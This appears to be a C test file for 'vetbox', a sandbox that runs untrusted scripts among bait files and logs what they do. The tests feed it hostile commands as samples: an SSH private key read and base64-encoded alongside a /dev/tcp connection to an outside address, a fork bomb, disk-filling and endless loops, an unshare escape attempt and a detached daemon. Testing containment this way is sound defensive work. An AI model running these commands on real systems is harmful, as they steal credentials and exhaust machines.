@@ -1,0 +1,297 @@
+/* A whole detonation: box, recorder and baits together, as vetbox uses them. */
+#include <errno.h>
+#include <fcntl.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include <cmocka.h>
+
+#include "vetbox/sandbox.h"
+
+struct catcher {
+    struct vb_sink sink;
+    struct vb_buf log;
+    unsigned kinds[VB_EVENT_KIND_COUNT];
+};
+
+static int catch_event(struct vb_sink *sink, struct vb_event *event, struct vb_error *err)
+{
+    struct catcher *catcher = (struct catcher *)(void *)sink;
+    catcher->kinds[event->kind]++;
+    return vb_event_to_json(event, &catcher->log, err);
+}
+
+struct bench {
+    struct vb_sandbox_options options;
+    struct vb_sandbox *sandbox;
+    struct catcher caught;
+    struct vb_detonation_result result;
+    struct vb_error err;
+    uint32_t next_id;
+};
+
+static void put(int dirfd, const char *path, uint32_t mode, const char *text)
+{
+    assert_int_equal(vb_mkdir_parents(dirfd, path), 0);
+    VB_CLEANUP_FD int fd = vb_open_beneath(dirfd, path, O_WRONLY | O_CREAT | O_EXCL, mode);
+    assert_true(fd >= 0);
+    assert_int_equal(write(fd, text, strlen(text)), strlen(text));
+}
+
+static void bench_init(struct bench *bench)
+{
+    *bench = (struct bench){
+        .options = vb_sandbox_default_options, .caught.sink.emit = catch_event, .next_id = 1};
+    vb_buf_init(&bench->caught.log, 256 << 20);
+    bench->options.epoch_ns = vb_monotonic_ns();
+    bench->options.name = "Weather ../skill";
+    assert_int_equal(vb_workspace_new(4 << 20, 1000, &bench->options.tree_fd, &bench->err), VB_OK);
+    assert_int_equal(vb_workspace_new(64 << 20, 1000, &bench->options.drops_fd, &bench->err),
+                     VB_OK);
+    put(bench->options.tree_fd, "SKILL.md", 0644, "# weather\n");
+    put(bench->options.tree_fd, "sub/tool.sh", 0644, "pwd\n");
+}
+
+static void bench_start(struct bench *bench)
+{
+    const int status =
+        vb_sandbox_new(&bench->options, &bench->caught.sink, &bench->sandbox, &bench->err);
+    if (status < 0)
+        fail_msg("%s", bench->err.message);
+}
+
+static void bench_done(struct bench *bench)
+{
+    vb_sandbox_free(bench->sandbox);
+    vb_buf_done(&bench->caught.log);
+    vb_close_fd(&bench->options.tree_fd);
+    vb_close_fd(&bench->options.drops_fd);
+}
+
+static void detonate(struct bench *bench, const char *script, unsigned timeout_ms)
+{
+    char bash[] = "bash";
+    char c[] = "-c";
+    char reason[] = "test";
+    char cwd[] = "sub";
+    char *text = strdup(script);
+    char *argv[] = {bash, c, text, NULL};
+    const struct vb_detonation row = {.id = bench->next_id++,
+                                      .reason = reason,
+                                      .argv = argv,
+                                      .text = text,
+                                      .cwd = cwd,
+                                      .timeout_ms = timeout_ms};
+    const int status =
+        vb_detonate(bench->sandbox, &row, &bench->caught.sink, &bench->result, &bench->err);
+    free(text);
+    if (status < 0)
+        fail_msg("%s", bench->err.message);
+}
+
+static const char *log_of(const struct bench *bench)
+{
+    return bench->caught.log.data == NULL ? "" : (const char *)bench->caught.log.data;
+}
+
+/* True if one line of the log has all of A, B and C (NULL: not asked for). */
+static bool line_with(const struct bench *bench, const char *a, const char *b, const char *c)
+{
+    const char *line = log_of(bench);
+    while (*line != '\0') {
+        const size_t len = strcspn(line, "\n");
+        if (memmem(line, len, a, strlen(a)) != NULL &&
+            (b == NULL || memmem(line, len, b, strlen(b)) != NULL) &&
+            (c == NULL || memmem(line, len, c, strlen(c)) != NULL))
+            return true;
+        line += len + (line[len] == '\n');
+    }
+    return false;
+}
+
+#define BENCH(name)                           \
+    VB_CLEANUP(bench_done) struct bench name; \
+    bench_init(&name);                        \
+    bench_start(&name)
+
+/* --- */
+
+static void test_frame(void **state)
+{
+    (void)state;
+    BENCH(b);
+    assert_true(b.caught.kinds[VB_EV_BAIT_PLACED] > 5);
+    detonate(&b, "exit 5", 5000);
+    assert_int_equal(b.result.exit_status, 5);
+    assert_int_equal(b.caught.kinds[VB_EV_DETONATION_BEGIN], 1);
+    assert_int_equal(b.caught.kinds[VB_EV_DETONATION_END], 1);
+    assert_true(line_with(&b, "detonation.begin", "\"text\":\"exit 5\"", "/sub\""));
+    assert_true(line_with(&b, "process.exec", "/bash\"", "\"exit 5\""));
+    assert_int_equal(b.caught.kinds[VB_EV_EXAMINER_DIED], 0);
+}
+
+static void test_theft(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(
+        &b,
+        "cat ~/.ssh/id_ed25519 | base64 -w0 > /tmp/out; exec 3<>/dev/tcp/198.51.100.7/443; true",
+        5000);
+    assert_true(line_with(&b, "bait.read", "\"bait\":\"ssh-ed25519\"", "cat\""));
+    assert_true(line_with(&b, "file.open", "/tmp/out\"", "create"));
+    assert_true(line_with(&b, "net.connect", "198.51.100.7", "443"));
+    assert_true(line_with(&b, "truth.file", "/tmp/out\"", "created"));
+}
+
+static void test_package_folder(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b, "pwd; cat ../SKILL.md", 5000);
+    /* the name is the package's and was made harmless */
+    assert_true(line_with(&b, "detonation.output", "/skills/Weather-..-skill/sub", "# weather"));
+}
+
+static void test_drops(void **state)
+{
+    (void)state;
+    char hex[VB_SHA256_HEX];
+    char text[16] = "";
+    BENCH(b);
+    for (int i = 0; i < 2; i++) /* the second time it is there already */
+        detonate(&b, "echo second stage > ~/stage2", 5000);
+    assert_int_equal(vb_sha256_hex("second stage\n", 13, hex, &b.err), VB_OK);
+    assert_true(line_with(&b, "truth.file", "/home/alex/stage2\"", hex));
+    VB_CLEANUP_FD int fd = vb_open_beneath(b.options.drops_fd, hex, O_RDONLY, 0);
+    assert_int_equal(read(fd, text, sizeof(text)), 13);
+}
+
+static void test_boxes_are_new(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b, "echo x > /tmp/left; echo x > ~/left; echo x > ../left", 5000);
+    detonate(&b, "ls /tmp ~ ..", 5000);
+    assert_false(line_with(&b, "detonation.output", "left", NULL));
+}
+
+static void test_denied(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b, "unshare -Ur true; echo status $?", 5000);
+    assert_false(line_with(&b, "detonation.output", "status 0", NULL));
+    assert_true(line_with(&b, "kernel.denied", NULL, NULL));
+}
+
+static void test_python_and_node(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b,
+             "python3 -c 'import json, ssl, urllib.request; print(\"python\", 6 * 7)'; "
+             "node -e 'console.log(\"node\", 6 * 7)'; true",
+             20000);
+    if (access("/usr/bin/python3", X_OK) == 0)
+        assert_true(line_with(&b, "detonation.output", "python 42", NULL));
+    if (access("/usr/bin/node", X_OK) == 0)
+        assert_true(line_with(&b, "detonation.output", "node 42", NULL));
+}
+
+static void test_wild(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *script, *limit;
+    } rows[] = {
+        {"sleep 100", "time"},
+        {"while :; do :; done", "time"},
+        {"while :; do cat /etc/hostname > /dev/null; done", "time"},
+        {"f() { f & f & sleep 9; }; f; wait; sleep 9", "processes"},
+        {"yes", "output"},
+        {"for i in 1 2 3; do head -c 100M /dev/zero > /tmp/$i; done; sleep 1", "disk"},
+        {"kill -STOP $$", "time"},
+    };
+    for (size_t i = 0; i < VB_ARRAY_LEN(rows); i++) {
+        char limit[64];
+        BENCH(b);
+        const uint64_t start = vb_monotonic_ns();
+        detonate(&b, rows[i].script, 1500);
+        const uint64_t took = (vb_monotonic_ns() - start) / 1000000U;
+        snprintf(limit, sizeof(limit), "\"what\":\"%s\"", rows[i].limit);
+        if (!line_with(&b, "sandbox.limit", limit, NULL))
+            fail_msg("%s: no limit %s", rows[i].script, rows[i].limit);
+        assert_int_equal(b.caught.kinds[VB_EV_DETONATION_END], 1);
+        if (took > 6000)
+            fail_msg("%s took %u ms", rows[i].script, (unsigned)took);
+    }
+}
+
+static void test_daemon(void **state)
+{
+    (void)state;
+    BENCH(b);
+    detonate(&b, "setsid bash -c 'echo late > ~/late; sleep 1000' & exit 0", 5000);
+    assert_int_equal(b.result.exit_status, 0);
+    assert_true(b.result.duration_ms < 2000);
+    assert_true(line_with(&b, "truth.file", "/home/alex/late\"", "created"));
+    assert_int_equal(waitpid(-1, NULL, WNOHANG), -1);
+}
+
+static void test_bad_options(void **state)
+{
+    (void)state;
+    struct vb_sandbox_options options = vb_sandbox_default_options;
+    struct vb_sandbox *sandbox = NULL;
+    struct vb_error err = {0};
+    struct catcher caught = {.sink.emit = catch_event};
+    options.processes = 0;
+    assert_int_equal(vb_sandbox_new(&options, &caught.sink, &sandbox, &err), VB_E_USAGE);
+    assert_null(sandbox);
+}
+
+static void test_output_copy(void **state)
+{
+    (void)state;
+    int ends[2];
+    char text[64] = "";
+    assert_int_equal(pipe2(ends, O_CLOEXEC), 0);
+    VB_CLEANUP(bench_done) struct bench b;
+    bench_init(&b);
+    b.options.output_fd = ends[1];
+    bench_start(&b);
+    detonate(&b, "echo to both; echo errors too >&2", 5000);
+    close(ends[1]);
+    assert_true(read(ends[0], text, sizeof(text) - 1) > 0);
+    close(ends[0]);
+    assert_non_null(strstr(text, "to both\n"));
+    assert_non_null(strstr(text, "errors too\n"));
+}
+
+int main(void)
+{
+    struct vb_layer_report reports[VB_LAYERS_MAX];
+    struct vb_error err = {0};
+    const int count = vb_layers_probe(reports, &err);
+    for (int i = 0; i < count; i++) {
+        if (reports[i].purpose == VB_LAYER_CONTAINMENT && !reports[i].present) {
+            printf("skipped: %s: %s\n", reports[i].name, reports[i].detail);
+            return 77;
+        }
+    }
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_frame),           cmocka_unit_test(test_theft),
+        cmocka_unit_test(test_package_folder),  cmocka_unit_test(test_drops),
+        cmocka_unit_test(test_boxes_are_new),   cmocka_unit_test(test_denied),
+        cmocka_unit_test(test_python_and_node), cmocka_unit_test(test_wild),
+        cmocka_unit_test(test_daemon),          cmocka_unit_test(test_bad_options),
+        cmocka_unit_test(test_output_copy),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
